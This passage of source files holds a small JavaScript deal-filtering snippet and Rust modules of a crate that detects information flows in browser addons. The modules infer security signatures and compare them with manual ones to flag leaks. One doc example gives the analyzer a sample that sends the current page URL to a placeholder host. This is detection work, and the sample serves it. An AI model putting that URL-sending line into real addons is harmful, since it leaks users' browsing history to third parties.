// --- Filtering and sorting ------------------------------------------------------

function cpd_filterByMaxPrice(deals, ceiling) {
  var kept = [];
  var i = 0;
  while (i < deals.length) {
    var d = deals[i];
    var price = parseFloat(d.price);
    if (!isNaN(price) && price <= ceiling) {
      kept.push(d);
    }
    i = i + 1;
  }
  return kept;
}

function cpd_cheapest(deals) {
  var best = null;
  var bestPrice = 0;
  var i = 0;
  while (i < deals.length) {
    var price = parseFloat(deals[i].price);
    if (best === null || price < bestPrice) {
      best = deals[i];
      bestPrice = price;
    }
    i = i + 1;
  }
  return best;
}

// --- Pagination --------------------------------------------------------------------

var cpdPager = { page: 0, perPage: 4 };

function cpd_pageCount(total) {
  var pages = 0;
  var counted = 0;
  while (counted < total) {
    counted = counted + cpdPager.perPage;
    pages = pages + 1;
  }
  if (pages == 0) {
    pages = 1;
  }
  return pages;
}

function cpd_nextPage(total) {
  cpdPager.page = cpdPager.page + 1;
  if (cpdPager.page >= cpd_pageCount(total)) {
    cpdPager.page = 0;
  }
  return cpdPager.page;
}
