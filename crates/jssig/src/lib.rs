//! Security-signature inference for JavaScript-based browser addons
//! (Section 4 of the paper).
//!
//! A signature lists information flows from interesting sources (the
//! current URL, key presses, ...) to interesting sinks (network sends
//! annotated with the inferred domain, script injection, ...), each
//! classified with one of the eight flow types of Figure 4, plus
//! interesting-API usage. Signatures are inferred from the annotated PDG
//! by per-source flow-type propagation, and can be compared against
//! manually-written signatures to produce the pass/fail/leak verdicts of
//! Table 2.
//!
//! # Examples
//!
//! ```
//! use jsanalysis::{analyze, AnalysisConfig};
//! use jspdg::Pdg;
//! use jssig::{infer_signature, FlowLattice};
//!
//! let ast = jsparser::parse(
//!     "var u = content.location.href;\n\
//!      var req = XHRWrapper(\"http://rank.example.com/\");\n\
//!      req.send(u);",
//! )?;
//! let lowered = jsir::lower(&ast);
//! let analysis = analyze(&lowered, &AnalysisConfig::default());
//! let pdg = Pdg::build(&lowered, &analysis);
//! let sig = infer_signature(&lowered, &analysis, &pdg, &FlowLattice::paper());
//! assert!(sig.to_string().contains("url --type1--> send"));
//! # Ok::<(), jsparser::ParseError>(())
//! ```

#![warn(missing_docs)]

pub mod compare;
pub mod flowtype;
pub mod infer;
pub mod propagate;
pub mod signature;

pub use compare::{
    classify_flow_drift, compare, Comparison, DriftFlow, FlowDrift, ManualEntry, ManualSignature,
    MatchQuality, RetypedFlow, Verdict,
};
pub use flowtype::{FlowLattice, FlowType, FlowTypeSpec};
pub use infer::{flows_impossible, infer_signature, infer_signature_traced};
pub use propagate::{propagate, FlowTypes, PathStep};
pub use signature::{FlowEntry, ProvenanceStep, SigSink, Signature};
