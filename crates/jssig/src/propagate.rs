//! Flow-type propagation over the annotated PDG (Section 4.2).
//!
//! For a set of source statements, computes for every PDG-reachable
//! statement the strongest set of flow types with which information from
//! the source can reach it:
//!
//! ```text
//! FlowType(v) = max( U_{v' --ann--> v} U_{t in FlowType(v')} extend(t, ann) )
//! ```
//!
//! computed as a fixpoint (the PDG has cycles). We accumulate every
//! achievable type monotonically and take `max` at read-out time, which
//! yields the same result as the paper's equation and terminates because
//! the type set is finite.

use crate::flowtype::{FlowLattice, FlowType};
use jspdg::{Annotation, Pdg};
use jsir::StmtId;
use std::collections::{BTreeMap, BTreeSet, VecDeque};

/// One step of a provenance path: a statement, and the annotation of the
/// PDG edge the flow takes *out of* it (`None` at the path's end).
pub type PathStep = (StmtId, Option<Annotation>);

/// Flow types achievable at each statement from a given set of sources.
#[derive(Debug, Clone)]
pub struct FlowTypes {
    achievable: BTreeMap<StmtId, BTreeSet<FlowType>>,
    /// First-discovery parent pointers: the `(statement, flow type)`
    /// fact and edge annotation that first established each achievable
    /// fact. Source facts have no entry. Because a parent fact is always
    /// inserted strictly before its children, the pointers form a DAG
    /// and every chain ends at a source.
    parents: BTreeMap<(StmtId, FlowType), (StmtId, FlowType, Annotation)>,
    /// Propagation worklist iterations (order-independent: the FIFO over
    /// the PDG is fixed regardless of how phase 1 was scheduled).
    pub steps: u64,
    /// Distinct `(statement, flow type)` facts established.
    pub raises: u64,
}

impl FlowTypes {
    /// The strongest flow types with which the sources reach `stmt`
    /// (empty if unreachable in the PDG).
    pub fn at(&self, lattice: &FlowLattice, stmt: StmtId) -> BTreeSet<FlowType> {
        self.achievable
            .get(&stmt)
            .map(|s| lattice.max(s))
            .unwrap_or_default()
    }

    /// Statements reachable from the sources.
    pub fn reached(&self) -> impl Iterator<Item = StmtId> + '_ {
        self.achievable.keys().copied()
    }

    /// The PDG path that first established flow type `t` at `stmt`: a
    /// source-to-`stmt` statement sequence where each step carries the
    /// annotation of the edge the flow leaves it on (`None` on the final
    /// statement). `None` if `(stmt, t)` was never achieved.
    ///
    /// Deterministic: propagation visits the PDG in a fixed order, so
    /// the first discovery — and hence the path — is a pure function of
    /// the PDG and the sources.
    pub fn provenance(&self, stmt: StmtId, t: FlowType) -> Option<Vec<PathStep>> {
        if !self.achievable.get(&stmt).is_some_and(|s| s.contains(&t)) {
            return None;
        }
        let mut rev: Vec<PathStep> = vec![(stmt, None)];
        let mut cur = (stmt, t);
        while let Some(&(pstmt, ptype, ann)) = self.parents.get(&cur) {
            rev.push((pstmt, Some(ann)));
            cur = (pstmt, ptype);
            // Parent insertion order strictly decreases, so this cannot
            // cycle; the bound is sheer paranoia.
            if rev.len() > self.parents.len() + 2 {
                debug_assert!(false, "provenance chain longer than the parent table");
                return None;
            }
        }
        rev.reverse();
        Some(rev)
    }
}

/// Runs the propagation from `sources` over the PDG.
pub fn propagate(lattice: &FlowLattice, pdg: &Pdg, sources: &BTreeSet<StmtId>) -> FlowTypes {
    let mut achievable: BTreeMap<StmtId, BTreeSet<FlowType>> = BTreeMap::new();
    let mut parents: BTreeMap<(StmtId, FlowType), (StmtId, FlowType, Annotation)> =
        BTreeMap::new();
    let mut queue: VecDeque<StmtId> = VecDeque::new();
    let strongest = lattice.strongest();
    let mut raises: u64 = 0;
    for &s in sources {
        achievable.entry(s).or_default().insert(strongest);
        raises += 1;
        queue.push_back(s);
    }
    let mut queued: BTreeSet<StmtId> = sources.clone();

    let mut steps: u64 = 0;
    while let Some(v) = queue.pop_front() {
        queued.remove(&v);
        steps += 1;
        let types: Vec<FlowType> = achievable
            .get(&v)
            .map(|s| s.iter().copied().collect())
            .unwrap_or_default();
        for &(succ, ann) in pdg.succs(v) {
            let entry = achievable.entry(succ).or_default();
            let mut changed = false;
            for &t in &types {
                let ext = lattice.extend(t, ann);
                if entry.insert(ext) {
                    changed = true;
                    raises += 1;
                    parents.insert((succ, ext), (v, t, ann));
                }
            }
            if changed && queued.insert(succ) {
                queue.push_back(succ);
            }
        }
    }
    FlowTypes {
        achievable,
        parents,
        steps,
        raises,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use jspdg::{Annotation, CtrlKind};

    fn s(n: u32) -> StmtId {
        StmtId(n)
    }

    fn t(n: u8) -> FlowType {
        FlowType(n - 1)
    }

    const L_AMP: Annotation = Annotation::Ctrl {
        kind: CtrlKind::Local,
        amp: true,
    };
    const NLE_AMP: Annotation = Annotation::Ctrl {
        kind: CtrlKind::NonLocExp,
        amp: true,
    };

    #[test]
    fn pure_strong_chain_stays_type1() {
        let mut pdg = Pdg::default();
        pdg.add(s(0), s(1), Annotation::DataStrong);
        pdg.add(s(1), s(2), Annotation::DataStrong);
        let l = FlowLattice::paper();
        let ft = propagate(&l, &pdg, &[s(0)].into_iter().collect());
        assert_eq!(ft.at(&l, s(2)), [t(1)].into_iter().collect());
    }

    #[test]
    fn weak_edge_degrades_to_type2() {
        let mut pdg = Pdg::default();
        pdg.add(s(0), s(1), Annotation::DataWeak);
        let l = FlowLattice::paper();
        let ft = propagate(&l, &pdg, &[s(0)].into_iter().collect());
        assert_eq!(ft.at(&l, s(1)), [t(2)].into_iter().collect());
    }

    #[test]
    fn paper_example_from_section_4_2() {
        // v1 --nle^amp--> v3, v2 --nle^amp--> v3, with
        // FlowType(v1) = {type4, type5}, FlowType(v2) = {type3}:
        // the paper computes FlowType(v3) = {type5}.
        // Build a PDG realizing those incoming sets:
        //   src --local--> v1 (type4); src --nle^amp--> v1 (type5);
        //   src --local^amp--> v2 (type3).
        let mut pdg = Pdg::default();
        let src = s(0);
        let v1 = s(1);
        let v2 = s(2);
        let v3 = s(3);
        pdg.add(
            src,
            v1,
            Annotation::Ctrl {
                kind: CtrlKind::Local,
                amp: false,
            },
        );
        pdg.add(src, v1, NLE_AMP);
        pdg.add(src, v2, L_AMP);
        pdg.add(v1, v3, NLE_AMP);
        pdg.add(v2, v3, NLE_AMP);
        let l = FlowLattice::paper();
        let ft = propagate(&l, &pdg, &[src].into_iter().collect());
        assert_eq!(ft.at(&l, v1), [t(4), t(5)].into_iter().collect());
        assert_eq!(ft.at(&l, v2), [t(3)].into_iter().collect());
        assert_eq!(
            ft.at(&l, v3),
            [t(5)].into_iter().collect(),
            "max(extend(type4,nle^amp)=type6, extend(type5,nle^amp)=type5, \
             extend(type3,nle^amp)=type5) = {{type5}}"
        );
    }

    #[test]
    fn cycles_terminate() {
        let mut pdg = Pdg::default();
        pdg.add(s(0), s(1), Annotation::DataWeak);
        pdg.add(s(1), s(2), L_AMP);
        pdg.add(s(2), s(1), Annotation::DataWeak);
        let l = FlowLattice::paper();
        let ft = propagate(&l, &pdg, &[s(0)].into_iter().collect());
        assert!(!ft.at(&l, s(2)).is_empty());
    }

    #[test]
    fn unreachable_statements_have_no_types() {
        let mut pdg = Pdg::default();
        pdg.add(s(0), s(1), Annotation::DataStrong);
        pdg.add(s(5), s(6), Annotation::DataStrong);
        let l = FlowLattice::paper();
        let ft = propagate(&l, &pdg, &[s(0)].into_iter().collect());
        assert!(ft.at(&l, s(6)).is_empty());
    }

    #[test]
    fn provenance_walks_back_to_a_source() {
        let mut pdg = Pdg::default();
        pdg.add(s(0), s(1), Annotation::DataStrong);
        pdg.add(s(1), s(2), Annotation::DataWeak);
        let l = FlowLattice::paper();
        let ft = propagate(&l, &pdg, &[s(0)].into_iter().collect());
        let sink_type = *ft.at(&l, s(2)).iter().next().unwrap();
        let path = ft.provenance(s(2), sink_type).expect("achieved fact has a path");
        assert_eq!(
            path,
            vec![
                (s(0), Some(Annotation::DataStrong)),
                (s(1), Some(Annotation::DataWeak)),
                (s(2), None),
            ]
        );
        assert!(ft.provenance(s(7), sink_type).is_none(), "unreached stmt");
        assert!(ft.steps >= 3, "three statements visited");
        assert!(ft.raises >= 3, "three facts established");
    }

    #[test]
    fn provenance_is_deterministic_across_runs() {
        let mut pdg = Pdg::default();
        // Two competing routes to s(3) with the same resulting type.
        pdg.add(s(0), s(1), Annotation::DataWeak);
        pdg.add(s(0), s(2), Annotation::DataWeak);
        pdg.add(s(1), s(3), Annotation::DataWeak);
        pdg.add(s(2), s(3), Annotation::DataWeak);
        let l = FlowLattice::paper();
        let sources = [s(0)].into_iter().collect();
        let a = propagate(&l, &pdg, &sources);
        let b = propagate(&l, &pdg, &sources);
        let t = *a.at(&l, s(3)).iter().next().unwrap();
        assert_eq!(a.provenance(s(3), t), b.provenance(s(3), t));
    }

    #[test]
    fn multiple_sources_union() {
        let mut pdg = Pdg::default();
        pdg.add(s(0), s(2), Annotation::DataStrong);
        pdg.add(s(1), s(2), Annotation::DataWeak);
        let l = FlowLattice::paper();
        let ft = propagate(&l, &pdg, &[s(0), s(1)].into_iter().collect());
        // Strongest wins: type1 via s0.
        assert_eq!(ft.at(&l, s(2)), [t(1)].into_iter().collect());
    }
}
