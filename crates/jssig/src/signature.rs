//! Security signatures (Figure 3 of the paper).
//!
//! ```text
//! sign  ::= entry*
//! entry ::= src --type--> sink | sink
//! src   ::= url | key | geoloc | ...
//! sink  ::= send(Pre) | scriptloadr | ...
//! ```

use crate::flowtype::FlowType;
use jsanalysis::{SinkKind, SourceKind};
use jsdomains::Pre;
use jsir::StmtId;
use jsparser::Span;
use jspdg::Annotation;
use std::collections::{BTreeMap, BTreeSet};
use std::fmt;

/// One step of a flow entry's PDG provenance: the statement the flow
/// passes through, its source line, and the annotation of the PDG edge
/// the flow leaves it on (`None` on the sink itself).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub struct ProvenanceStep {
    /// The statement on the path.
    pub stmt: StmtId,
    /// Its line in the addon source (1-based).
    pub line: u32,
    /// Annotation of the outgoing edge (`None` at the path's end).
    pub edge: Option<Annotation>,
}

/// A sink as it appears in a signature: its kind plus, for network sends
/// and script loads, the inferred domain from the prefix string domain.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct SigSink {
    /// What kind of sink.
    pub kind: SinkKind,
    /// The inferred domain (`Pre::Bot` when the sink has no domain, e.g.
    /// `eval`).
    pub domain: Pre,
}

impl fmt::Display for SigSink {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.domain {
            Pre::Bot => write!(f, "{}", self.kind),
            d => write!(f, "{}({})", self.kind, d),
        }
    }
}

/// One information-flow entry: `src --type--> sink`.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct FlowEntry {
    /// The information source.
    pub source: SourceKind,
    /// The sink reached.
    pub sink: SigSink,
    /// The inferred flow type (one entry per type in the strongest set).
    pub flow: FlowType,
}

impl fmt::Display for FlowEntry {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} --{}--> {}", self.source, self.flow, self.sink)
    }
}

/// An inferred security signature.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Signature {
    /// Information-flow entries.
    pub flows: BTreeSet<FlowEntry>,
    /// Interesting-API usage entries.
    pub apis: BTreeSet<String>,
    /// Sink-only entries (the `entry ::= sink` production of Figure 3):
    /// every reachable interesting sink, whether or not an interesting
    /// source flows into it. This is how category C addons ("communicate
    /// with a domain without sending interesting information") show up.
    pub sinks: BTreeSet<SigSink>,
    /// Source-code witnesses for each flow entry: (source span, sink span)
    /// pairs, for the vetter's benefit.
    pub witnesses: BTreeMap<FlowEntry, Vec<(Span, Span)>>,
    /// PDG provenance for each flow entry: the statement path (with edge
    /// annotations) that first established the entry's flow type during
    /// propagation. Rendered by `vet --explain`; deterministic for a
    /// fixed source and configuration.
    pub provenance: BTreeMap<FlowEntry, Vec<ProvenanceStep>>,
}

impl Signature {
    /// An empty signature.
    pub fn new() -> Signature {
        Signature::default()
    }

    /// Adds a flow entry with a witness.
    pub fn add_flow(&mut self, entry: FlowEntry, witness: Option<(Span, Span)>) {
        if let Some(w) = witness {
            self.witnesses.entry(entry.clone()).or_default().push(w);
        }
        self.flows.insert(entry);
    }

    /// True if the signature reports nothing at all.
    pub fn is_empty(&self) -> bool {
        self.flows.is_empty() && self.apis.is_empty() && self.sinks.is_empty()
    }

    /// The flow entries reaching sinks of the given kind.
    pub fn flows_to(&self, kind: &SinkKind) -> impl Iterator<Item = &FlowEntry> {
        let kind = kind.clone();
        self.flows.iter().filter(move |e| e.sink.kind == kind)
    }

    /// Serializes the signature to JSON for downstream tooling (review
    /// dashboards, diffing against a previous version of the addon).
    /// Witness spans are included as `(line, line)` pairs. All enum-like
    /// fields use their `Display` forms, so the export reads exactly like
    /// the textual signature (`"url"`, `"send"`, `"type1"`, ...).
    pub fn to_json(&self) -> String {
        use minijson::Json;

        fn domain_json(d: &Pre) -> Json {
            match d {
                Pre::Bot => Json::Null,
                d => Json::from(d.to_string()),
            }
        }
        fn sink_json(s: &SigSink) -> Json {
            let mut o = Json::obj();
            o.set("kind", Json::from(s.kind.to_string()));
            o.set("domain", domain_json(&s.domain));
            o
        }

        let mut doc = Json::obj();
        let flows: Vec<Json> = self
            .flows
            .iter()
            .map(|e| {
                let mut o = Json::obj();
                o.set("source", Json::from(e.source.to_string()));
                o.set("flow", Json::from(e.flow.to_string()));
                o.set("sink_kind", Json::from(e.sink.kind.to_string()));
                o.set("domain", domain_json(&e.sink.domain));
                let lines: Vec<Json> = self
                    .witnesses
                    .get(e)
                    .map(|ws| {
                        ws.iter()
                            .map(|(a, b)| Json::Arr(vec![Json::from(a.line), Json::from(b.line)]))
                            .collect()
                    })
                    .unwrap_or_default();
                o.set("witness_lines", Json::Arr(lines));
                if let Some(path) = self.provenance.get(e) {
                    let steps: Vec<Json> = path
                        .iter()
                        .map(|step| {
                            let mut s = Json::obj();
                            s.set("line", Json::from(step.line));
                            s.set(
                                "edge",
                                match step.edge {
                                    Some(a) => Json::from(a.to_string()),
                                    None => Json::Null,
                                },
                            );
                            s
                        })
                        .collect();
                    o.set("path", Json::Arr(steps));
                }
                o
            })
            .collect();
        doc.set("flows", Json::Arr(flows));
        doc.set(
            "sinks",
            Json::Arr(self.sinks.iter().map(sink_json).collect()),
        );
        doc.set(
            "apis",
            Json::Arr(self.apis.iter().map(|a| Json::from(a.as_str())).collect()),
        );
        doc.to_string_pretty()
    }
}

impl fmt::Display for Signature {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        if self.is_empty() {
            return writeln!(f, "(empty signature)");
        }
        for e in &self.flows {
            writeln!(f, "  {e}")?;
        }
        for s in &self.sinks {
            writeln!(f, "  sink: {s}")?;
        }
        for a in &self.apis {
            writeln!(f, "  api-use: {a}")?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn entry(n: u8) -> FlowEntry {
        FlowEntry {
            source: SourceKind::Url,
            sink: SigSink {
                kind: SinkKind::Send,
                domain: Pre::exact("http://a.com"),
            },
            flow: FlowType(n - 1),
        }
    }

    #[test]
    fn display_forms() {
        let e = entry(1);
        assert_eq!(e.to_string(), "url --type1--> send(\"http://a.com\")");
        let eval = SigSink {
            kind: SinkKind::Eval,
            domain: Pre::Bot,
        };
        assert_eq!(eval.to_string(), "eval");
    }

    #[test]
    fn signature_collects_entries() {
        let mut s = Signature::new();
        assert!(s.is_empty());
        s.add_flow(entry(1), Some((Span::new(0, 1, 1), Span::new(2, 3, 2))));
        s.add_flow(entry(1), None); // duplicate entry, no new flow
        s.apis.insert("eval".into());
        assert_eq!(s.flows.len(), 1);
        assert!(!s.is_empty());
        assert_eq!(s.flows_to(&SinkKind::Send).count(), 1);
        assert_eq!(s.flows_to(&SinkKind::Eval).count(), 0);
        assert_eq!(s.witnesses[&entry(1)].len(), 1);
        let text = s.to_string();
        assert!(text.contains("url --type1--> send"));
        assert!(text.contains("api-use: eval"));
    }
}
