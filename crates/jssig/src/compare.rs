//! Comparing inferred signatures against manually-written ones
//! (Section 6.2-6.3 of the paper).
//!
//! The paper writes a manual signature per addon from its developer
//! summary, then classifies each addon as **pass** (inferred matches
//! manual), **fail** (inferred has extra flows that are false positives /
//! imprecision -- in the paper's two failures, an imprecisely-inferred
//! network domain), or **leak** (inferred has extra flows that are real).
//! Deciding whether an extra flow is real required manual inspection in
//! the paper; here ground truth is supplied by the caller (the corpus
//! records it for every benchmark addon).

use crate::flowtype::FlowType;
use crate::signature::{FlowEntry, Signature};
use jsanalysis::{SinkKind, SourceKind};
use jsdomains::Pre;
use std::fmt;

/// One entry of a manually-written signature.
#[derive(Debug, Clone, PartialEq)]
pub struct ManualEntry {
    /// Expected source.
    pub source: SourceKind,
    /// Expected sink kind.
    pub sink_kind: SinkKind,
    /// Expected network domain (a substring the inferred domain's known
    /// text must contain), or `None` for domain-less sinks.
    pub domain: Option<String>,
    /// Expected flow type.
    pub flow: FlowType,
}

impl fmt::Display for ManualEntry {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} --{}--> {}", self.source, self.flow, self.sink_kind)?;
        if let Some(d) = &self.domain {
            write!(f, "({d})")?;
        }
        Ok(())
    }
}

/// A manually-written signature (from the addon's developer summary).
#[derive(Debug, Clone, Default, PartialEq)]
pub struct ManualSignature {
    /// Expected flow entries.
    pub entries: Vec<ManualEntry>,
    /// Sinks the addon is expected to communicate with even without an
    /// interesting source (category C addons): (sink kind, domain).
    pub plain_sinks: Vec<(SinkKind, String)>,
}

impl ManualSignature {
    /// A signature with no expected flows.
    pub fn empty() -> ManualSignature {
        ManualSignature::default()
    }
}

/// How an inferred entry relates to the manual signature.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MatchQuality {
    /// Source, sink, flow type and domain all match.
    Precise,
    /// Source, sink and flow type match but the inferred domain is too
    /// coarse to pin down the expected one (the paper's two `fail`s).
    ImpreciseDomain,
}

/// The per-addon verdict of Table 2.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Verdict {
    /// Inferred signature has no more flows than the manual one.
    Pass,
    /// Extra/imprecise flows that are false positives or imprecision.
    Fail,
    /// Extra flows that are real (unexpected, undocumented behavior).
    Leak,
}

impl fmt::Display for Verdict {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Verdict::Pass => write!(f, "pass"),
            Verdict::Fail => write!(f, "fail"),
            Verdict::Leak => write!(f, "leak"),
        }
    }
}

/// Detailed result of a comparison.
#[derive(Debug, Clone)]
pub struct Comparison {
    /// The overall verdict.
    pub verdict: Verdict,
    /// (manual entry index, inferred entry, quality) for matched entries.
    pub matched: Vec<(usize, FlowEntry, MatchQuality)>,
    /// Inferred entries with no manual counterpart, with the ground-truth
    /// classification supplied by the caller (`true` = real flow).
    pub extra: Vec<(FlowEntry, bool)>,
    /// Inferred sink-only entries not covered by the manual signature,
    /// with ground truth (`true` = the addon really communicates there).
    pub extra_sinks: Vec<(crate::signature::SigSink, bool)>,
    /// Manual entries the analysis failed to find (would indicate
    /// unsoundness; empty on the whole corpus).
    pub missing: Vec<ManualEntry>,
}

/// True if the inferred prefix-domain element pins down the expected
/// domain: its known text must mention the expected host.
fn domain_precise(inferred: &Pre, expected: &str) -> bool {
    inferred
        .known_text()
        .is_some_and(|t| t.contains(expected))
}

/// True if the inferred domain is at least *compatible* with the expected
/// one (could still denote it).
fn domain_compatible(inferred: &Pre, expected: &str) -> bool {
    match inferred {
        Pre::Bot => false,
        Pre::Exact(s) => s.contains(expected),
        Pre::Prefix(p) => {
            // A prefix is compatible if the expected domain extends it or
            // it already contains the expected host.
            p.contains(expected)
                || expected.contains(p.as_str())
                || p.is_empty()
                || expected.starts_with(p.as_str())
                // Conservative: short prefixes (scheme only) are compatible
                // with anything.
                || p.len() <= "https://".len()
        }
    }
}

/// Compares an inferred signature against the manual one. `is_real_flow`
/// supplies ground truth for inferred flow entries absent from the manual
/// signature, and `is_real_sink` for extra sink-only entries (the paper's
/// "manual inspection").
///
/// One inferred entry may cover several manual entries: a single
/// unknown-domain entry covers all three player domains of the paper's
/// VKVideoDownloader example (imprecisely, producing `fail`).
pub fn compare(
    inferred: &Signature,
    manual: &ManualSignature,
    is_real_flow: impl Fn(&FlowEntry) -> bool,
    is_real_sink: impl Fn(&crate::signature::SigSink) -> bool,
) -> Comparison {
    let mut matched: Vec<(usize, FlowEntry, MatchQuality)> = Vec::new();
    let mut extra: Vec<(FlowEntry, bool)> = Vec::new();
    let mut used_manual: Vec<bool> = vec![false; manual.entries.len()];

    for entry in &inferred.flows {
        let mut any_match = false;
        for (i, m) in manual.entries.iter().enumerate() {
            if m.source != entry.source || m.sink_kind != entry.sink.kind {
                continue;
            }
            if m.flow != entry.flow {
                continue;
            }
            let quality = match &m.domain {
                None => MatchQuality::Precise,
                Some(d) if domain_precise(&entry.sink.domain, d) => MatchQuality::Precise,
                Some(d) if domain_compatible(&entry.sink.domain, d) => {
                    MatchQuality::ImpreciseDomain
                }
                Some(_) => continue,
            };
            used_manual[i] = true;
            matched.push((i, entry.clone(), quality));
            any_match = true;
        }
        if !any_match {
            let real = is_real_flow(entry);
            extra.push((entry.clone(), real));
        }
    }

    let missing: Vec<ManualEntry> = manual
        .entries
        .iter()
        .zip(&used_manual)
        .filter(|(_, used)| !**used)
        .map(|(m, _)| m.clone())
        .collect();

    // Sink-only entries: an inferred sink is expected if compatible with a
    // manual plain sink or with the domain of any manual flow entry.
    let mut extra_sinks: Vec<(crate::signature::SigSink, bool)> = Vec::new();
    for sink in &inferred.sinks {
        let expected = manual
            .plain_sinks
            .iter()
            .any(|(k, d)| *k == sink.kind && domain_compatible(&sink.domain, d))
            || manual.entries.iter().any(|m| {
                m.sink_kind == sink.kind
                    && m.domain
                        .as_deref()
                        .is_none_or(|d| domain_compatible(&sink.domain, d))
            });
        if !expected {
            extra_sinks.push((sink.clone(), is_real_sink(sink)));
        }
    }

    let any_real_extra = extra.iter().any(|(_, real)| *real)
        || extra_sinks.iter().any(|(_, real)| *real);
    let any_false_extra = extra.iter().any(|(_, real)| !*real)
        || extra_sinks.iter().any(|(_, real)| !*real);
    let any_imprecise = matched
        .iter()
        .any(|(_, _, q)| *q == MatchQuality::ImpreciseDomain);

    let verdict = if any_real_extra {
        Verdict::Leak
    } else if any_false_extra || any_imprecise || !missing.is_empty() {
        Verdict::Fail
    } else {
        Verdict::Pass
    };

    Comparison {
        verdict,
        matched,
        extra,
        extra_sinks,
        missing,
    }
}

/// A flow identity at the granularity signatures export to JSON: the
/// `Display` forms of source, flow type, and sink kind, plus the domain
/// text (`None` for domain-less or bottom domains). Witness lines and
/// provenance paths are deliberately excluded — they shift with any
/// reformatting of the addon and are presentation, not meaning.
///
/// This is the unit of the corpus drift observatory: snapshots persist
/// signatures as JSON, so drift classification works on the string level
/// and never needs to re-parse enum values.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct DriftFlow {
    /// `SourceKind` display form (`"url"`, `"keypress"`, ...).
    pub source: String,
    /// `FlowType` display form (`"type1"` ... `"type8"`).
    pub flow: String,
    /// `SinkKind` display form (`"send"`, `"inject"`, ...).
    pub sink_kind: String,
    /// Domain text as exported (`None` when the signature exported
    /// `null`).
    pub domain: Option<String>,
}

impl fmt::Display for DriftFlow {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} --{}--> {}", self.source, self.flow, self.sink_kind)?;
        if let Some(d) = &self.domain {
            write!(f, "({d})")?;
        }
        Ok(())
    }
}

impl DriftFlow {
    /// The (source, sink kind, domain) endpoint identity — what must
    /// coincide for two flows to be "the same flow with a different
    /// type".
    fn endpoint(&self) -> (&str, &str, Option<&str>) {
        (&self.source, &self.sink_kind, self.domain.as_deref())
    }
}

/// A flow whose endpoints survived an analyzer change but whose flow
/// type did not — the paper's Figure 4 lattice makes these transitions
/// meaningful (e.g. a `type1` explicit flow weakening to a `type3`
/// implicit one).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RetypedFlow {
    /// Source display form.
    pub source: String,
    /// Sink-kind display form.
    pub sink_kind: String,
    /// Domain text, if any.
    pub domain: Option<String>,
    /// Flow type in the old snapshot.
    pub old_flow: String,
    /// Flow type in the new snapshot.
    pub new_flow: String,
}

impl fmt::Display for RetypedFlow {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{} --{}=>{}--> {}",
            self.source, self.old_flow, self.new_flow, self.sink_kind
        )?;
        if let Some(d) = &self.domain {
            write!(f, "({d})")?;
        }
        Ok(())
    }
}

/// Classified flow-level drift between two signature snapshots of the
/// same addon.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct FlowDrift {
    /// Flows present only in the new snapshot.
    pub added: Vec<DriftFlow>,
    /// Flows present only in the old snapshot.
    pub removed: Vec<DriftFlow>,
    /// Flows whose endpoints persist but whose flow type changed.
    pub retyped: Vec<RetypedFlow>,
}

impl FlowDrift {
    /// True when the two snapshots carry identical flow sets.
    pub fn is_empty(&self) -> bool {
        self.added.is_empty() && self.removed.is_empty() && self.retyped.is_empty()
    }
}

/// Classifies the drift between two flow sets. Exact matches cancel
/// first; among the leftovers, flows sharing a (source, sink kind,
/// domain) endpoint pair up as *retyped* (a flow-type transition), and
/// whatever remains is genuinely added or removed. All output vectors
/// are sorted, so equal inputs in any order produce identical reports.
pub fn classify_flow_drift(old: &[DriftFlow], new: &[DriftFlow]) -> FlowDrift {
    let mut removed: Vec<DriftFlow> = old.to_vec();
    let mut added: Vec<DriftFlow> = Vec::new();

    // Pass 1: cancel exact matches.
    for flow in new {
        match removed.iter().position(|o| o == flow) {
            Some(i) => {
                removed.remove(i);
            }
            None => added.push(flow.clone()),
        }
    }

    // Pass 2: pair leftovers by endpoint into flow-type transitions.
    let mut retyped: Vec<RetypedFlow> = Vec::new();
    let mut still_added: Vec<DriftFlow> = Vec::new();
    for flow in added {
        match removed.iter().position(|o| o.endpoint() == flow.endpoint()) {
            Some(i) => {
                let old_flow = removed.remove(i);
                retyped.push(RetypedFlow {
                    source: flow.source,
                    sink_kind: flow.sink_kind,
                    domain: flow.domain,
                    old_flow: old_flow.flow,
                    new_flow: flow.flow,
                });
            }
            None => still_added.push(flow),
        }
    }

    let mut added = still_added;
    added.sort();
    removed.sort();
    retyped.sort_by(|a, b| {
        (&a.source, &a.sink_kind, &a.domain, &a.old_flow, &a.new_flow)
            .cmp(&(&b.source, &b.sink_kind, &b.domain, &b.old_flow, &b.new_flow))
    });
    FlowDrift {
        added,
        removed,
        retyped,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::signature::SigSink;

    fn t(n: u8) -> FlowType {
        FlowType(n - 1)
    }

    fn inferred_entry(domain: Pre, flow: FlowType) -> FlowEntry {
        FlowEntry {
            source: SourceKind::Url,
            sink: SigSink {
                kind: SinkKind::Send,
                domain,
            },
            flow,
        }
    }

    fn manual_url_send(domain: &str, flow: FlowType) -> ManualSignature {
        ManualSignature {
            entries: vec![ManualEntry {
                source: SourceKind::Url,
                sink_kind: SinkKind::Send,
                domain: Some(domain.to_owned()),
                flow,
            }],
            plain_sinks: Vec::new(),
        }
    }

    #[test]
